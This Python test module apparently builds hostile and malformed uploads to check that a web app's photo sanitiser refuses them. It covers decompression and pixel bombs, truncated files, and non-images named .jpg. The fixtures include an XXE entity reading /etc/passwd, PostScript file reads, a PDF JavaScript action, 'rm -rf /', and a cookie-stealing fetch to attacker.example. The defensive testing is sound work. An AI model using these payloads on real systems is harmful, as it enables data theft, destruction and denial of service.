"""Hostile and awkward uploads, each with the end it comes to. `python -m tests.photos.hostile` prints them as a table.

Every file is made when it is asked for and the same each time; none lies in the tree. CANARY stands wherever a
file can tell more than its pixels. A scene of four colours, CORNERS, shows whether a picture came out upright.
"""

import logging
import os
import subprocess
import sys
import tempfile
import time
import zlib
from pathlib import Path

import django
from PIL import Image

from . import awkward
from .cases import (
    FILM,
    IGNORED,
    KEPT,
    PHP,
    SCRIPT,
    Case,
    carrying,
    claiming,
    png_carrying,
    progressive,
    scene,
    shown,
    webp_carrying,
)
from .pictures import (
    CANARY,
    box,
    chunk,
    encoded,
    large_png,
    lossless_jpeg,
    plain,
    png,
    riff,
    segment,
    vp8x,
)

# --- bombs ----------------------------------------------------------------------------------------------------


def scans(number, size=(600, 600)):
    """A progressive JPEG whose last scan comes again and again."""
    photo = encoded(plain(size=size), progressive=True)
    last = photo.rindex(b"\xff\xda")
    return photo[:last] + photo[last:-2] * number + b"\xff\xd9"


def frame(marker):
    """A baseline JPEG under the name of another kind."""
    return scene().replace(b"\xff\xc0", bytes([0xFF, marker]), 1)


def unusual():
    for number in (2_000, 60_000):
        yield Case(f"JPEG of {number} scans", lambda number=number: scans(number), "scans")
    yield Case("JPEG of 85 scans and 42 MP", lambda: scans(85, (7000, 6000)), "scans")
    yield Case("JPEG of 90 scans", lambda: scans(80), size=(600, 600))
    yield Case("JPEG, arithmetic coding", lambda: frame(0xC9), "scans")
    yield Case("JPEG, hierarchical", lambda: frame(0xC5), "scans")
    yield Case("JPEG, lossless", lambda: lossless_jpeg(400, 300), "scans")
    yield Case("JPEG, lossless, 12 MP", lambda: lossless_jpeg(4000, 3000), "scans")
    empty = segment(0xE5, b"")
    yield Case("JPEG of 4 million empty segments", lambda: carrying(empty * 4_000_000), "scans")
    yield Case("JPEG of a million EXIFs", lambda: carrying(segment(0xE1, b"Exif\0\0" + bytes(8)) * 1_000_000), "scans")
    yield Case("JPEG of a million comments", lambda: carrying(segment(0xFE, CANARY) * 1_000_000), "scans")
    yield shown("JPEG of 900 comments", lambda: carrying(segment(0xFE, CANARY) * 900))
    for name, filling in {"0xFF": b"\xff" * 15_000_000, "0xFF00": b"\xff\0" * 7_000_000}.items():
        yield Case(f"JPEG, {name} before its first segment", lambda f=filling: scene()[:2] + f + scene()[2:], "scans")
    yield shown("JPEG with 900 fill bytes", lambda: scene()[:2] + b"\xff" * 900 + scene()[2:])
    yield Case("JPEG of 15 MB of 0xFF alone", lambda: b"\xff\xd8" + b"\xff" * 15_000_000, "damaged")
    yield shown("JPEG, 15 MB of restarts behind its pixels", lambda: scene()[:-2] + b"\xff\xd0" * 7_000_000)
    yield Case("PNG of 1.5 million chunks", lambda: png_carrying(chunk(b"prVt", b"") * 1_500_000), "scans")
    yield Case("PNG of a million empty pixels' chunks", lambda: png_carrying(chunk(b"IDAT", b"") * 1_000_000), "scans")
    yield shown("PNG of 9000 chunks", lambda: png_carrying(chunk(b"tEXt", b"a\0CANARY") * 9_000))
    yield shown("WebP of 2 million chunks", lambda: webp_carrying(*[(b"JUNK", b"")] * 2_000_000))


def packed_texts():
    bomb = zlib.compress(bytes(200_000_000), 9)
    for kind, head in ((b"zTXt", b"a\0\0"), (b"iTXt", b"a\0\x01\0\0\0"), (b"iCCP", b"a\0\0")):
        name = f"PNG, 200 MB packed as {kind.decode()}"
        yield Case(name, lambda kind=kind, head=head: png_carrying(chunk(kind, head + bomb)), "damaged")
    yield Case("PNG, a text of 15 MB", lambda: png_carrying(chunk(b"tEXt", b"a\0" + CANARY * 2_500_000)), "damaged")
    half = zlib.compress(bytes(1_000_000))
    yield Case("PNG, 50 texts of a megabyte", lambda: png_carrying(*[chunk(b"zTXt", b"a\0\0" + half)] * 50), "damaged")


# 59 MP of one colour in 40 bytes of lossless WebP.
FLAT = bytes.fromhex("5249464620000000574542505650384c140000002f13de8417075081540820000a9a22c78888fe07")


def pixel_bombs():
    yield Case("JPEG that claims 65 000 x 65 000 px", lambda: claiming(65_000, 65_000), "pixels")
    yield Case("JPEG that claims 60.03 MP", lambda: claiming(30_000, 2_001), "pixels")
    full = scene(progressive=True, subsampling=0)
    yield Case("JPEG, progressive 4:4:4, that claims 60 MP", lambda: claiming(10_000, 6_000, full), "pixels")
    yield Case("JPEG, progressive 4:4:4, 48 MP", lambda: progressive(8064, 6048, subsampling=0), "pixels")
    yield Case("JPEG, progressive CMYK, 33 MP", lambda: progressive(8000, 4200, "CMYK"), "pixels")
    yield Case("PNG that claims 30 000 x 30 000 px", lambda: png(30_000, 30_000), "pixels")
    yield Case("PNG of 177 MP", lambda: large_png(13_300, 13_300, 0), "pixels")
    yield Case("PNG of 46 MP", lambda: large_png(6_800, 6_800), "pixels")
    yield Case("PNG with transparency, 24.01 MP", lambda: large_png(4_900, 4_900, 6), "pixels")
    yield Case(
        "PNG, 16 bits with transparency, interlaced, 24.01 MP", lambda: large_png(4_900, 4_900, 6, 16, 1), "pixels"
    )
    palette = chunk(b"PLTE", bytes(30)) + chunk(b"tRNS", bytes(10))
    yield Case(
        "PNG, a palette with transparency, 24.01 MP", lambda: large_png(4_900, 4_900, 3, extra=palette), "pixels"
    )
    yield Case("PNG, moving, that claims 20 000 px", lambda: png(20_000, 20_000, chunk(b"acTL", bytes(8))), "pixels")
    lossy = b"\x30\x01\0\x9d\x01\x2a\xff\x3f\xff\x3f" + bytes(200)
    yield Case("WebP that claims 16 383 px", lambda: riff((b"VP8 ", lossy)), "pixels")
    yield Case("WebP, extended, that claims 16 million px", lambda: riff(vp8x(1 << 24, 1 << 24)), "pixels")
    yield Case("WebP, lossless, that claims 16 384 px", lambda: riff((b"VP8L", b"\x2f" + b"\xff" * 90)), "pixels")
    yield Case("WebP, 59 MP of one colour in 40 bytes", lambda: FLAT, "pixels")
    yield Case("WebP of 16 MP", lambda: encoded(plain(size=(4000, 4000)), "WEBP", method=0), "pixels")


# --- broken on the way, or made to look so --------------------------------------------------------------------


def cut():
    rough = Image.new("RGB", (600, 600))
    rough.putdata([(n * 7919 % 251, n * 104_729 % 241, n % 239) for n in range(360_000)])
    for kind, options in {"JPEG": {}, "progressive JPEG": {"progressive": True}, "PNG": {}, "WEBP": {}}.items():
        whole = encoded(rough, kind.split()[-1], **options)
        for share in (0.02, 0.5, 0.97):
            length = int(len(whole) * share)
            name = f"{kind} cut off after {share:.0%}"
            yield Case(name, lambda whole=whole, length=length: whole[:length], "damaged")
    yield Case("zero bytes", lambda: b"", "empty")
    yield Case("one byte", lambda: b"\xff", "kind")
    yield Case("the first three bytes of a JPEG", lambda: b"\xff\xd8\xff", "damaged")
    yield Case("the first eight bytes of a PNG", lambda: b"\x89PNG\r\n\x1a\n", "damaged")
    yield Case("the first twelve bytes of a WebP", lambda: b"RIFF\0\1\0\0WEBP", "damaged")
    yield Case("a JPEG's beginning, then zeros", lambda: b"\xff\xd8\xff\xe0" + bytes(9000), "damaged")
    yield Case("a JPEG's beginning, then 0xFF", lambda: b"\xff\xd8" + b"\xff" * 9000, "damaged")
    yield Case("JPEG without pixels", lambda: scene()[:2] + b"\xff\xd9", "damaged")
    yield shown(
        "JPEG without its Huffman tables, as films have them", lambda: scene().replace(b"\xff\xc4", b"\xff\xe9")
    )
    yield Case("JPEG without its other tables", lambda: scene().replace(b"\xff\xdb", b"\xff\xe9"), "damaged")
    # What ends as it should, but too early, is taken for whole by every decoder; the rest is grey or black.
    yield Case("JPEG that claims ten times its height", lambda: claiming(300, 4000), size=(150, 2000))
    yield Case("PNG that claims ten times its height", lambda: png(400, 3000, rows=bytes(401 * 300)), size=(269, 2016))
    yield Case("PNG that claims a tenth of its height", lambda: png(400, 300, rows=bytes(401 * 3000)), size=(400, 300))
    small = scene("WEBP", lossless=True)
    yield Case("WebP whose canvas is not its picture", lambda: riff(vp8x(900, 900), (b"VP8L", small[20:])), "damaged")
    yield Case("PNG with a wrong checksum", lambda: scene("PNG").replace(b"IHDR", b"IHDr", 1), "damaged")


# --- no photos, under the name of one -------------------------------------------------------------------------


def heif(brand, *others):
    return box(b"ftyp", brand + bytes(4) + b"".join(others)) + box(b"meta", bytes(400))


def not_photos():
    files = {
        "a page": b"<!doctype html>" + SCRIPT,
        "a drawing (SVG)": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "a drawing behind a prologue": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;',
        "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 300 300\n(/etc/passwd) run\n",
        "EPS with a preview": b"\xc5\xd0\xd3\xc6" + bytes(60) + b"%!PS-Adobe-3.0 EPSF-3.0",
        "PostScript": b"%!PS\n(/etc/passwd) (r) file\n",
        "PDF": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
        "PDF with a JPEG inside": b"%PDF-1.7\nstream\n" + scene() + b"\nendstream",
        "PHP": PHP,
        "JavaScript": b"fetch('https://attacker.example/?'+document.cookie)",
        "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "ZIP": b"PK\x03\x04\x14\0\0\0\x08\0" + bytes(200) + b"PK\x05\x06" + bytes(18),
        "a program for Windows": b"MZ\x90\0" + bytes(400),
        "a program for Linux": b"\x7fELF\x02\x01\x01" + bytes(400),
        "AVIF": heif(b"avif", b"mif1", b"miaf"),
        "AVIF that says mif1 first": heif(b"mif1", b"avif", b"miaf"),
        "JPEG 2000": box(b"jP  ", b"\r\n\x87\n") + bytes(200),
        "JPEG XL": b"\xff\x0a" + bytes(200),
        "JPEG XL in boxes": box(b"JXL ", b"\r\n\x87\n") + bytes(200),
        "a film (MP4)": FILM,
        "a film (QuickTime)": box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"mdat", bytes(400)),
        "sound (another RIFF)": b"RIFF\x24\0\0\0WAVEfmt " + bytes(200),
        "DICOM": bytes(128) + b"DICM" + bytes(200),
        "PSD": b"8BPS\0\x01" + bytes(200),
        "FITS": b"SIMPLE  =                    T".ljust(2880),
        "a picture description (XPM)": b'/* XPM */ static char *x[] = {"300 300 1 1", "a c #000000"};',
        "text": b"Dear diary",
        "zeros": bytes(5000),
        "a JPEG behind a line feed": b"\n" + scene(),
        "GIFAR": encoded(plain(), "GIF") + b"PK\x03\x04" + bytes(200) + b"PK\x05\x06" + bytes(18),
    }
    for name, content in files.items():
        yield Case(f"{name} named .jpg", lambda content=content: content, "kind")
    for kind in ("BMP", "TIFF", "ICO", "TGA", "PPM"):
        yield Case(f"{kind} named .jpg", lambda kind=kind: encoded(plain(size=(250, 250)), kind), "kind")
    for brand, others in {
        b"heic": [b"mif1"],
        b"mif1": [b"heic"],
        b"heix": [b"mif1"],
        b"hevc": [b"msf1"],
        b"msf1": [],
    }.items():
        name = f"HEIC of the brand {brand.decode()}"
        yield Case(name, lambda brand=brand, others=others: heif(brand, *others), "heic", "IMG_2.HEIC", "image/heic")
    yield Case("HEIC named second", lambda: heif(b"miaf", b"MiHB", b"heic"), "heic", "IMG_2.jpg")


GROUPS = (*awkward.GROUPS, unusual, packed_texts, pixel_bombs, cut, not_photos)
CASES = [case for group in GROUPS for case in group()]


# --- what a child takes ---------------------------------------------------------------------------------------

SCALES = """
import os, resource, sys, warnings
from PIL import Image
from journal import photo_child

Image.preinit()
warnings.simplefilter("ignore")
for path in sys.stdin:
    with open("/proc/self/statm") as pages:
        before = int(pages.read().split()[1]) * resource.getpagesize()
    child = os.fork()
    if child == 0:
        with open(path.strip(), "rb") as upload:
            photo_child.cap(8)
            photo_child.answer(upload.read())
        os._exit(0)
    print(os.wait4(child, 0)[2].ru_maxrss * 1024 - before, flush=True)
"""


class Scales:
    """A forker like the app's own, that says by how much the memory of each capped child grew. Linux only."""

    def __enter__(self):
        root = Path(__file__).parents[2]
        self.process = subprocess.Popen(
            [sys.executable, "-c", SCALES], cwd=root, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )
        return self

    def weigh(self, upload):
        """Bytes, at the peak."""
        with tempfile.NamedTemporaryFile() as file:
            file.write(upload)
            file.flush()
            print(file.name, file=self.process.stdin, flush=True)
            return int(self.process.stdout.readline())

    def __exit__(self, *_error):
        self.process.stdin.close()
        self.process.stdout.close()
        self.process.wait(timeout=20)


def weighed():
    """Of each case: its name, the bytes of the upload, its end, the seconds it took, and the child's MB."""
    from journal import photos

    with Scales() as scales:
        for case in CASES:
            upload, started = case.make(), time.monotonic()
            try:
                photos.clean(upload)
                end = IGNORED if case.end == IGNORED else KEPT  # by the form, which never asks us
            except photos.PhotoRefused as refused:
                end = refused.reason
            seconds = time.monotonic() - started
            yield case.name, len(upload), end, seconds, scales.weigh(upload) / 1e6


def row(name, length, end, seconds, grown):
    return f"{name:62} {length:10}  {end:8} {seconds:7.2f} {max(grown, 0):8.1f}"


if __name__ == "__main__":
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "tests.settings")
    django.setup()
    logging.disable()
    print(f"{'case':62} {'bytes':>10}  {'end':8} {'seconds':>7} {'child MB':>8}")
    rows = []
    for told in weighed():
        rows.append(told)
        print(row(*told), flush=True)
    kept = sum(end == KEPT for _name, _length, end, _seconds, _grown in rows)
    print(f"\n{len(rows)} files: {kept} kept, {len(rows) - kept} refused. The slowest five, and the heaviest:")
    print(*(row(*told) for told in sorted(rows, key=lambda told: -told[3])[:5]), sep="\n")
    print(row(*max(rows, key=lambda told: told[4])))
